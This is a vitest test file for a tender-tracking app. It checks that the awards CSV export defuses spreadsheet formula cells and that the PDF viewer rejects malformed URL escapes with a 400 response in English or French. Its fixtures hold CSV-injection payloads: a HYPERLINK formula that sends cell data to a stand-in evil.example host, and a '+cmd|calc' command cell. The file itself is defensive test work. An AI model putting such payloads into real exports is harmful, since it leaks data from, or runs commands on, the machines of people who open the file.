import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingestSource } from '../src/modules/tenders/ingest/ingest-runner';
import { AWARD_CSV_HEADER_LINE, toAwardCsvLine } from '../src/modules/awards/award-generator';
import { createTestUser, type TestUser } from './support/accounts';
import { createTestApp, testEngine, type TestApp } from './support/test-app';

describe(`CSV cells and viewer URLs a caller controls (${testEngine()} store)`, () => {
  let t: TestApp;
  let dir: string;
  let user: TestUser;

  beforeAll(async () => {
    t = await createTestApp();
    dir = await mkdtemp(path.join(os.tmpdir(), 'tenderscout-small-'));
    const file = path.join(dir, 'awards.csv');
    const award = (reference: string, supplier: string, title: string) =>
      toAwardCsvLine({
        'referenceNumber-numeroReference': reference,
        'title-titre-eng': title,
        'contractAwardDate-dateAttributionContrat': '2026-02-20',
        'totalContractValue-valeurTotaleContrat': '1200.00',
        'contractCurrency-contratMonnaie': 'CAD',
        'supplierLegalName-nomLegalFournisseur-eng': supplier,
        'contractingEntityName-nomEntitContractante-eng': '@SUM(1+1)',
      });
    await writeFile(
      file,
      AWARD_CSV_HEADER_LINE +
        award('cb-900-00000001', '=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+cmd|calc') +
        award('cb-900-00000002', '-2+3', '\tTabbed title'),
    );
    await ingestSource(t.store.db, file);
    user = await createTestUser(t);
  });
  afterAll(async () => {
    await t?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('writes every cell a spreadsheet would run as a formula as text in the awards export', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/awards/export' });
    expect(response.statusCode).toBe(200);
    const rows = parse<Record<string, string>>(response.body, { bom: true, columns: true });
    const first = rows.find((row) => row.reference_number === 'cb-900-00000001');
    const second = rows.find((row) => row.reference_number === 'cb-900-00000002');
    expect(first).toMatchObject({
      supplier: `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
      title: "'+cmd|calc",
      buyer: "'@SUM(1+1)",
      value: '1200',
    });
    expect(second?.supplier).toBe("'-2+3");
    // Each cell begins with a harmless character, whatever the spreadsheet does with quotes.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('answers a viewer URL with a malformed % escape 400 in the caller language, not 500', async () => {
    const url = '/api/pdfs/view?url=https://canadabuys.canada.ca/%25ZZ.pdf';
    const english = await t.app.inject({ method: 'GET', url, headers: user.headers });
    expect(english.statusCode).toBe(400);
    expect(english.json<{ detail: string }>().detail).toContain('not a valid address');
    const french = await t.app.inject({
      method: 'GET',
      url,
      headers: { ...user.headers, 'accept-language': 'fr' },
    });
    expect(french.statusCode).toBe(400);
    expect(french.json<{ detail: string }>().detail).toContain("n'est pas une adresse valide");
    // The raw form the attacker sent (an unescaped %ZZ in the query) is refused as well.
    const raw = await t.app.inject({
      method: 'GET',
      url: '/api/pdfs/view?url=https://canadabuys.canada.ca/%ZZ.pdf',
      headers: user.headers,
    });
    expect(raw.statusCode).toBe(400);
  });
});
